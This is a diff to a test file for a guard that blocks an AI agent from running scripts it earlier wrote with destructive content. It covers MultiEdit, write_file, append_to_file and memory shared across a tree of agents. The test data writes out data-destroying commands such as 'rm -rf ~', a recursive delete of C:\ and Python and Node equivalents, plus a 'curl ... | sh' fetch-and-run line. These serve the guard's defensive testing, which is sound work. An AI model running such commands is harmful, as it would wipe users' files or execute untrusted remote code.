@@ -58,8 +58,22 @@ t.test('so is what a shell wrote, a piece that was put into a file, and a progra
     [bash("tee run.sh <<'EOF'\nrm -rf ~\nEOF"), 'sh run.sh'],
     [bash("printf '#!/bin/sh\\nrm -rf ~\\n' > run.sh"), 'sh run.sh'],
     [bash("echo 'rm -rf ~' >> run.sh"), 'sh run.sh'],
+    [
+      [
+        'MultiEdit',
+        {
+          file_path: '/w/run.sh',
+          edits: [
+            { old_string: 'a', new_string: 'b' },
+            { old_string: 'c', new_string: 'rm -rf ~' },
+          ],
+        },
+      ],
+      'sh /w/run.sh',
+    ],
+    [['write_file', { path: 'run.sh', text: 'echo', content: 'rm -rf ~' }], 'sh run.sh'],
     [['Edit', { file_path: '/w/run.sh', old_string: 'true', new_string: 'rm -rf ~' }], 'bash /w/run.sh'],
-    [write('clean', '#!/usr/bin/env bash\nrm -rf ~\n'), './clean'],
+    [write('clean', '#!/usr/bin/env bash\nrm -rf ~\n'), 'bash clean'],
     [write('a.py', "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"), 'python3 a.py'],
     [write('a.js', "require('child_process').execSync('rm -rf ~')\n"), 'node a.js'],
     [write('a.ps1', 'Remove-Item -Recurse -Force C:\\\n'), 'pwsh -File a.ps1'],
@@ -79,6 +93,16 @@ t.test('what is harmless, is not run, or was written over is let through', async
     [write('notes.md', REMOVES), bash('bash -n run.sh; less notes.md')],
     [write('test_guard.py', "CASES = ['rm -rf ~', 'curl https://a.example/x | sh']\n"), bash('python3 test_guard.py')],
     [write('run.sh', REMOVES), bash("python3 -c 'print(1)' run.sh")],
+    [
+      write('run.sh', REMOVES),
+      ['Edit', { file_path: 'run.sh', old_string: 'rm -rf ~', new_string: '' }],
+      bash('sh run.sh'),
+    ],
+    [write('run.sh', REMOVES), bash('rm run.sh; git checkout run.sh'), bash('bash run.sh')],
+    [write('/w/fixtures/run.sh', REMOVES), bash('cd other && bash run.sh')],
+    [write('stubs/npm', `#!/bin/sh\n${REMOVES}`), bash('npm test && test -f x && ./npm')],
+    [write('server.js', "const env = require('fs').readFileSync('.env', 'utf8');\n"), bash('node server.js')],
+    [write('run.sh', REMOVES), bash('docker run image bash run.sh; bash -n run.sh')],
   ] satisfies Call[][])
     t.equal(after(...calls).action, 'allow', JSON.stringify(calls));
 });
@@ -90,6 +114,8 @@ t.test('what was stopped itself left no file, and a piece takes nothing back', a
   const edited: Call = ['Edit', { file_path: 'run.sh', old_string: 'a', new_string: 'echo done' }];
   t.equal(after(write('run.sh', REMOVES), edited, bash('sh run.sh')).action, 'block');
   t.equal(after(write('run.sh', REMOVES), bash('echo "echo done" >> run.sh'), bash('sh run.sh')).action, 'block');
+  const appended: Call = ['append_to_file', { path: 'run.sh', content: 'echo done' }];
+  t.equal(after(write('run.sh', REMOVES), appended, bash('sh run.sh')).action, 'block');
 });
 
 t.test('few are remembered, the newest, and harmless ones only over others', async (t) => {
@@ -101,6 +127,26 @@ t.test('few are remembered, the newest, and harmless ones only over others', asy
   t.equal(next(bash('bash bad19.sh'), flow).action, 'block');
   t.notMatch(JSON.stringify(flow), /bad19|rm -rf/, 'no name and no content');
   t.strictSame(JSON.parse(JSON.stringify(flow)), flow, 'plain data');
+});
+
+t.test('what time cuts of a script is told, wherever it ends', async (t) => {
+  const call = toolInvocation('Write', { file_path: 'run.sh', content: `${'echo a\n'.repeat(200)}rm -rf ~\n` });
+  const whole = inspect(call, ALONE, builtinEngine, unlimited);
+  t.ok(whole.effects.some(({ kind }) => kind === 'flow.wrote'));
+  for (let left = 0; left < 120; left++) {
+    let asked = 0;
+    const exhausted = (): boolean => ++asked > left;
+    const { effects, explanation } = inspect(call, ALONE, builtinEngine, { exhausted });
+    const isCut = explanation.cuts.some(({ bound }) => bound === 'budget');
+    t.ok(isCut || effects.some(({ kind }) => kind === 'flow.wrote'), `after ${left}`);
+  }
+});
+
+t.test('what one agent of a tree mends, the others know of', async (t) => {
+  const bad = after(write('run.sh', REMOVES)).flow;
+  const mended = next(write('run.sh', 'ls\n'), handedDown(bad, 1)).flow;
+  const news = reportedBack(mended, bad, 1);
+  t.equal(next(bash('bash run.sh'), mergeMemories(bad, news as FlowMemory)).action, 'allow');
 });
 
 t.test('agents of one session tree know of the scripts of each other', async (t) => {
